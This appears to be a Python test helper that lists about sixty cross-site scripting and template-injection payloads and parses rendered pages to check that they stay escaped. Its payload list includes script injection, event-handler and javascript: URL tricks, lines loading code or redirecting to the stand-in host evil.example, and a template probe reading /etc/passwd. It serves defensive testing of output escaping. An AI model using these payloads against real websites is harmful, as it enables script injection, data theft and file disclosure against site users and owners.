"""Texts that would be elements of a page which does not escape them, and what a page is (T18)."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "</style><script>alert(4)</script>",
    "--><script>alert(5)</script><!--",
    "<!--><script>alert(6)</script>",
    "]]><script>alert(7)</script>",
    "<scr<script>ipt>alert(8)</scr</script>ipt>",
    "<script/x>alert(9)</script/x>",
    "<script\t>alert(10)</script>".replace("\t", " "),
    "<img src=x onerror=alert(11)>",
    "<img src=x onerror='alert(12)'//",
    '"><img src=x onerror=alert(13)>',
    "'><img src=x onerror=alert(14)>",
    "<img/src/onerror=alert(15)>",
    "<svg onload=alert(16)>",
    "<svg><script>alert(17)</script></svg>",
    "<svg><animate onbegin=alert(18) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(19)><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:alert(20)>x</mi></math>",
    "<iframe src=javascript:alert(21)></iframe>",
    "<iframe srcdoc='<script>alert(22)</script>'></iframe>",
    "<object data=javascript:alert(23)></object>",
    "<embed src=javascript:alert(24)>",
    "<a href=javascript:alert(25)>x</a>",
    "<a href='java&#115;cript:alert(26)'>x</a>",
    "javascript:alert(27)",
    "data:text/html,<script>alert(28)</script>",
    "<form action=//evil.example><input name=p></form>",
    "<button formaction=javascript:alert(30)>x</button>",
    "<input autofocus onfocus=alert(31)>",
    "<details open ontoggle=alert(32)>",
    "<body onload=alert(33)>",
    "<marquee onstart=alert(34)>",
    "<video><source onerror=alert(35)></video>",
    "<audio src=x onerror=alert(36)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(javascript:alert(42))>",
    '" onmouseover="alert(43)',
    "' onmouseover='alert(44)",
    '" autofocus onfocus="alert(45)" x="',
    "` onmouseover=alert(46) `",
    "x onclick=alert(47)",
    '" hx-get="//evil.example" hx-trigger="load',
    "{{7*7}}{% raw %}{{config}}{% endraw %}",
    "{% include '/etc/passwd' %}",
    "${alert(51)}#{alert(51)}<%= 7*7 %>",
    "&lt;script&gt;alert(52)&lt;/script&gt;",
    "&#60;script&#62;alert(53)&#60;/script&#62;",
    "%3Cscript%3Ealert(54)%3C/script%3E",
    "＜script＞alert(55)＜/script＞",
    "<template><script>alert(56)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(57)>'>",
    "<table background=javascript:alert(58)><tr><td>x",
    "\\u003cscript\\u003ealert(59)\\u003c/script\\u003e",
    "';alert(60)//\\';alert(60)//\";alert(60)//-->",
]


class Structure(HTMLParser):
    """The elements of a page with the names of their attributes, and its texts."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.texts: list[str] = []
        self.dangerous: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        for name, value in attrs:
            link = (value or "").strip().lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.dangerous.append(name)
            if name in {"href", "src", "action"} and not link.startswith(("/", "#", "?")):
                self.dangerous.append(f"{name}={link}")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)
